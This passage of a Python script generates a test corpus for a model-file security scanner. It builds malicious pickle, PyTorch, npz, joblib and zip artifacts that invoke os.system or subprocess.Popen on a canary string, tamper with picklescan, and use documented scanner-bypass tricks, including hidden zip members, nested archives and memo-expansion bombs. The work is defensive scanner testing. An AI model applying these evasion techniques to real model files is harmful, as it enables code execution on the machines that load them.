    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, content in (("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)), ("pickle", reduce_payload("os", "system", 2)), ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(content))
    c.add(f"{M}/b22-legacy-torch-tar.pt", tar.getvalue(), M, crit("os.system", rules=["legacy-torch-format"], formats=["tar"]), bypass="B22")

    # B23: SETITEM on a non-dict (heap corruption in the weights_only unpickler)
    c.add(f"{M}/b23-setitem-non-dict.pkl", PROTO(2) + BININT1(1) + SBU("k") + SBU("v") + SETITEM + STOP, M, malicious("high", rules=["invalid-pickle"]), bypass="B23", validate=False)

    # B23: a storage whose declared element count x element size differs from its member's size
    # (the weights_only unpickler trusted numel; CVE-2026-24747)
    good = zipfile.ZipFile(io.BytesIO(TORCH_ARCHIVES["torch-state-dict.pt"]))
    members = [(i.filename, good.read(i.filename)) for i in good.infolist()]
    first = next(n for n, _ in members if n.endswith("/data/0"))
    for label, change in (("truncated", lambda b: b[:-4]), ("enlarged", lambda b: b + b"\x00" * 64)):
        edited = [(n, change(d) if n == first else d) for n, d in members]
        c.add(f"{M}/b23-storage-{label}.pt", zip_bytes(edited), M, malicious("high", rules=["storage-size-mismatch"], formats=["pytorch-zip"]), bypass="B23", notes=f"benign state dict with {first} {label}")

    # B30: scanner tampering
    c.add(f"{M}/b30-scanner-tamper.pkl", reduce_payload("picklescan.scanner", "scan_pickle_bytes", 4), M, crit("picklescan.scanner.scan_pickle_bytes"), bypass="B30")

    # B31: containers ModelScan skipped: npz with an object array, nested zip
    npy_payload = npy_object_header() + reduce_payload("os", "system", 3)
    c.add(f"{M}/b31-npy-object.npy", npy_payload, M, crit("os.system", formats=["npy"]), bypass="B31")
    c.add(f"{M}/b31-npz-stored.npz", zip_bytes([("arr_0.npy", npy_payload)]), M, crit("os.system"), bypass="B31")
    c.add(f"{M}/b31-npz-deflated.npz", zip_bytes([("arr_0.npy", npy_payload)], zipfile.ZIP_DEFLATED), M, crit("os.system"), bypass="B31")
    c.add(f"{M}/b31-nested-zip.zip", zip_bytes([("inner.zip", zip_bytes([("archive/data.pkl", evil)], zipfile.ZIP_DEFLATED))]), M, crit("os.system"), bypass="B31")

    # B32: memo expansion (billion laughs)
    many_gets = PROTO(4) + EMPTY_LIST + MEMOIZE + MARK + BINGET(0) * 20000 + b"l" + STOP
    c.add(f"{M}/b32-memo-expansion.pkl", many_gets, M, malicious("high", rules=["expansion"]), bypass="B32")
    c.add(f"{M}/b32-dup-expansion.pkl", PROTO(4) + EMPTY_LIST + DUP * 500 + STOP, M, malicious("medium", rules=["expansion"]), bypass="B32")

    # Extension registry codes cannot be resolved statically
    c.add(f"{M}/ext1.pkl", PROTO(2) + b"\x82\x01" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, malicious("critical", rules=["unresolved-import"]))
    c.add(f"{M}/ext2.pkl", PROTO(2) + b"\x83\x01\x02" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, malicious("critical", rules=["unresolved-import"]))
    c.add(f"{M}/ext4.pkl", PROTO(2) + b"\x84\x01\x02\x03\x04" + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, malicious("critical", rules=["unresolved-import"]))

    # Stream arrangements
    c.add(f"{M}/two-streams-payload-second.pkl", pickle.dumps({"ok": 1}, protocol=4) + reduce_payload("os", "system", 4), M, crit("os.system"))
    c.add(f"{M}/trailing-garbage-after-payload.pkl", reduce_payload("os", "system", 2) + b"\x00\x01trailing", M, crit("os.system"), validate=False)
    c.add(f"{M}/truncated-after-payload.pkl", reduce_payload("os", "system", 2)[:-1], M, crit("os.system", rules=["malformed-pickle"], verdict="incomplete"), validate=False)
    c.add(f"{M}/stack-global-in-proto2.pkl", PROTO(2) + SG("os", "system") + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, crit("os.system", rules=["protocol-mismatch"]))
    c.add(f"{M}/copyreg-reconstructor-laundering.pkl", PROTO(2) + GLOBAL("copyreg", "_reconstructor") + MARK + GLOBAL("subprocess", "Popen") + GLOBAL("builtins", "object") + NONE + TUPLE + REDUCE + STOP, M, crit("subprocess.Popen"))
    c.add(f"{M}/cloudpickle-subimport-os.pkl", PROTO(4) + SG("builtins", "getattr") + SG("cloudpickle.cloudpickle", "subimport") + SBU("os") + TUPLE1 + REDUCE + SBU("system") + TUPLE2 + REDUCE + SBU(CANARY) + TUPLE1 + REDUCE + STOP, M, crit("builtins.getattr", "os"))
    c.add(f"{M}/build-on-module.pkl", PROTO(4) + SG("torch", "nn") + NONE + EMPTY_DICT + SBU("functional") + SBU(CANARY) + SETITEM + TUPLE2 + BUILD + STOP, M, malicious("high", rules=["build-on-global"]))

    # Containers and compressors around a payload
    c.add(f"{M}/zip-prepended-data.zip", b"#!/bin/sh prepended junk\n" * 4 + zip_bytes(torch_like), M, crit("os.system", rules=["archive-anomaly"]))
    c.add(f"{M}/zip64.zip", zip_bytes(torch_like, zipfile.ZIP_DEFLATED, force_zip64=True), M, crit("os.system", formats=["zip64"]))
    c.add(f"{M}/zip-duplicate-names.zip", zip_bytes([("archive/data.pkl", pickle.dumps({"ok": 1}, protocol=2)), ("archive/data.pkl", evil)]), M, crit("os.system", rules=["archive-anomaly"]))
    listed = zip_bytes([("archive/data.pkl", pickle.dumps({"ok": 1}, protocol=2))])
    cd_at = listed.find(b"PK\x01\x02")
    extra_local = local_header("archive/hidden.pkl", evil)
    unlisted = listed[:cd_at] + extra_local + listed[cd_at:]
    # Shift the central directory offset in the end record by the inserted bytes.
    eocd = unlisted.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", unlisted, eocd + 16)[0]
    unlisted = unlisted[: eocd + 16] + struct.pack("<I", cd_offset + len(extra_local)) + unlisted[eocd + 20 :]
    c.add(f"{M}/zip-unlisted-member.zip", unlisted, M, crit("os.system", rules=["archive-anomaly"]))
    for label, data in joblib_payload_after_array().items():
        c.add(f"{M}/joblib-payload-after-array{label}.joblib", data, M, crit("os.system", formats=["joblib"]), validate=False)


def local_header(name, data):
    n = name.encode()
    return (
        b"PK\x03\x04"
        + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data), len(n), 0)
        + n
        + data
    )


def npy_object_header():
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1")


def wrapper_state(dtype_typestr, shape, flags, alignment=True):
    """NumpyArrayWrapper object as joblib pickles it (protocol 4)."""
    dtype = SG("numpy", "dtype") + SBU(dtype_typestr) + b"\x89\x88" + TUPLE3 + REDUCE + MARK + BININT1(3) + SBU("|" if dtype_typestr.startswith("O") else "<") + NONE + NONE + NONE + BININT(-1) + BININT(-1) + BININT1(flags) + TUPLE + BUILD
    state = EMPTY_DICT + MARK + SBU("subclass") + SG("numpy", "ndarray") + SBU("shape") + MARK + b"".join(BININT1(s) for s in shape) + TUPLE + SBU("order") + SBU("C") + SBU("dtype") + dtype + SBU("allow_mmap") + b"\x89"
    if alignment:
        state += SBU("numpy_array_alignment_bytes") + BININT1(16)
    state += SETITEMS
    return SG("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD


def joblib_with_object_payload():
    inner = reduce_payload("os", "system", 2)
    return PROTO(4) + EMPTY_DICT + SBU("a") + wrapper_state("O8", (1,), 63, alignment=False) + inner + SETITEM + STOP


def joblib_payload_after_array():
    """A numeric array block, then the outer pickle continues with a payload; every compressor."""
    head = PROTO(4) + EMPTY_LIST + wrapper_state("f8", (4,), 0)
    pos = len(head) + 1
    pad = 16 - (pos % 16)
    array = bytes([pad]) + b"\xff" * pad + struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
    tail = APPEND + callable_ref("os", "system", 4) + SBU(CANARY) + TUPLE1 + REDUCE + APPEND + STOP
    raw = head + array + tail
    import lz4.frame

    return {
        "": raw,
        ".zlib": zlib.compress(raw, 3),
        ".gzip": zero_gzip_mtime(gzip.compress(raw, 3, mtime=0)),
        ".bz2": bz2.compress(raw, 3),
        ".lzma": lzma.compress(raw, format=lzma.FORMAT_ALONE),
        ".xz": lzma.compress(raw, format=lzma.FORMAT_XZ, check=lzma.CHECK_CRC64),
        ".lz4": lz4.frame.compress(raw),
        ".zf-legacy": b"ZF" + ("0x%x" % len(raw)).ljust(19).encode() + zlib.compress(raw, 3),
    }


# --------------------------------------------------------------------------- malformed


def build_malformed(c):
    K = "malformed"
    rnd = random.Random(1234)
    c.add(f"{K}/empty.bin", b"", K, {"verdict": "error"})
    benign_pickle = pickle.dumps({"weights": list(range(200)), "name": "model"}, protocol=4)
    c.add(f"{K}/truncated.pkl", benign_pickle[: len(benign_pickle) // 2], K, {"verdict": "incomplete", "rules": ["malformed-pickle"]})
    z = zip_bytes([("archive/data.pkl", benign_pickle), ("archive/version", b"3\n"), ("archive/data/0", bytes(rnd.getrandbits(8) for _ in range(4096)))], zipfile.ZIP_DEFLATED)
    c.add(f"{K}/truncated-zip.pt", z[: len(z) // 2], K, {"verdict": "incomplete"})
    c.add(f"{K}/random.bin", bytes(rnd.getrandbits(8) for _ in range(8192)), K, {"verdict": "clean"}, notes="noise is no model format: unrecognised, nothing would load it")
    nested = zip_bytes([("archive/data.pkl", benign_pickle)])
    for i in range(6):
        nested = zip_bytes([(f"level{i}.zip", nested)])
    c.add(f"{K}/deep-nesting.zip", nested, K, {"verdict": "incomplete", "rules": ["scan-limit"]})
    bomb = PROTO(4) + b"\x8e" + struct.pack("<Q", 48 * 1024 * 1024) + b"\x00" * (48 * 1024 * 1024) + STOP
    c.add(f"{K}/compression-bomb.zip", zip_bytes([("archive/data.pkl", bomb)], zipfile.ZIP_DEFLATED), K, {"verdict": "incomplete", "rules": ["scan-limit"]}, notes="a pickle whose bytes constant deflates 1000:1; the scanner must read through it")
    enc = zip_bytes([("archive/data.pkl", bytes(rnd.getrandbits(8) for _ in range(512)))])
    enc = patch_zip(enc, "archive/data.pkl", flag_or=0x1, crc_xor=0x5A5A5A5A)
    c.add(f"{K}/encrypted.zip", enc, K, {"verdict": "incomplete", "rules": ["encrypted-member"]})
    bad = bytearray(zip_bytes([("archive/data.pkl", benign_pickle * 4)], zipfile.ZIP_DEFLATED))
    start = bad.find(b"archive/data.pkl") + len("archive/data.pkl") + 20
    for i in range(start, start + 64):
        bad[i] ^= 0xA5
    c.add(f"{K}/corrupt-deflate.zip", bytes(bad), K, {"verdict": "incomplete"})
    c.add(f"{K}/deep-marks.pkl", PROTO(4) + MARK * 200000 + STOP, K, {"verdict": "findings", "rules": ["invalid-pickle"]}, notes="200k nested MARKs then STOP on an empty stack: bounded work, reported invalid")


TORCH_ARCHIVES = {}
"""PyTorch archives made here that generate_tf_7z.py repacks into 7z."""


def build_tf_7z(c):
    """Runs generate_tf_7z.py in its own venv (TensorFlow, tf_keras, py7zr) and adds its files."""
    import subprocess
    import tempfile

    py_venv = os.path.join(HERE, "..", "..", "..", "scripts", "py-venv")
    venv = subprocess.run([py_venv, "artifacts-formats"], check=True, capture_output=True, text=True).stdout.strip()
    with tempfile.TemporaryDirectory() as tmp:
        for name, data in TORCH_ARCHIVES.items():
            with open(os.path.join(tmp, name), "wb") as fh:
                fh.write(data)
        listing = os.path.join(tmp, "entries.json")
        env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
        run = subprocess.run([os.path.join(venv, "bin", "python"), os.path.join(HERE, "generate_tf_7z.py"), "--inputs", tmp, "--out", c.root, "--entries", listing], env=env, capture_output=True, text=True)
        if run.returncode != 0:  # TensorFlow's start-up chatter only when something failed
            sys.stderr.write(run.stderr)
            raise SystemExit(f"generate_tf_7z.py failed with exit code {run.returncode}")
        with open(listing) as fh:
            made = json.load(fh)
    for e in made["entries"]:
        c.add_file(e["path"], e["kind"], e["expect"], bypass=e.get("bypass"), notes=e.get("notes", ""), validate=False)
    return made["versions"]


def deterministic_uuid4():
    import uuid

    rnd = random.Random(4)
    uuid.uuid4 = lambda: uuid.UUID(int=rnd.getrandbits(128), version=4)


def fix_legacy_storage_keys(data):
    """Legacy torch.save names storages by memory address; rename them 0000..., same length."""
    f = io.BytesIO(data)
    for _ in range(4):
        for _op in pickletools.genops(f):
            pass
    keys = [arg for _op, arg, _pos in pickletools.genops(f) if isinstance(arg, str)]
    for i, key in enumerate(keys):
        enc = key.encode()
        data = data.replace(enc, str(i).rjust(len(enc), "0").encode())
    return data


def main():
    if os.environ.get("PYTHONHASHSEED") != "0":
        # Set iteration order (TorchScript writes attributes in set order) must not vary.
        os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, "PYTHONHASHSEED": "0"})
    deterministic_uuid4()
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", default=os.path.join(HERE, "files"))
    parser.add_argument("--manifest", default=os.path.join(HERE, "manifest.json"))
    args = parser.parse_args()
    if os.path.isdir(args.out):
        shutil.rmtree(args.out)
    os.makedirs(args.out)
    c = Corpus(args.out)
    benign(c)
    import numpy, sklearn, joblib, torch, xgboost, cloudpickle, dill  # noqa: E401  (versions only)

    with loaders_disabled():
        build_malicious(c)
        build_malformed(c)
    generate_formats.build_formats(c, malicious, clean)
    tf_7z_versions = build_tf_7z(c)
    versions = {m.__name__: m.__version__ for m in (numpy, sklearn, joblib, torch, xgboost, cloudpickle, dill)}
    versions.update(generate_formats.versions())
    versions.update(tf_7z_versions)
    versions["python"] = sys.version.split()[0]
    c.entries.sort(key=lambda e: e["path"])
    with open(args.manifest, "w") as fh:
        json.dump({"schema": "mlwarden.artifact-corpus/v1", "generator": "generate.py", "versions": versions, "canary": CANARY, "notCovered": NOT_COVERED, "files": c.entries}, fh, indent=1)
        fh.write("\n")
    print(f"wrote {len(c.entries)} files to {args.out}")


NOT_COVERED = {}

if __name__ == "__main__":
    main()
